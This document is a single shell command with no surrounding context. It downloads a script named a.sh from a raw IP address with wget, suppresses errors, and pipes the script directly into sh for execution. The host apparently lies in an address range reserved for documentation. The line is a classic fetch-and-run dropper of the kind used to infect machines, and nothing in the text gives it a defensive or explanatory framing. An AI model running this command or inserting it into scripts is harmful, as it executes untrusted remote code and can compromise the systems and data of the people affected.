wget -O - http://192.0.2.1/a.sh 2>/dev/null | sh -s
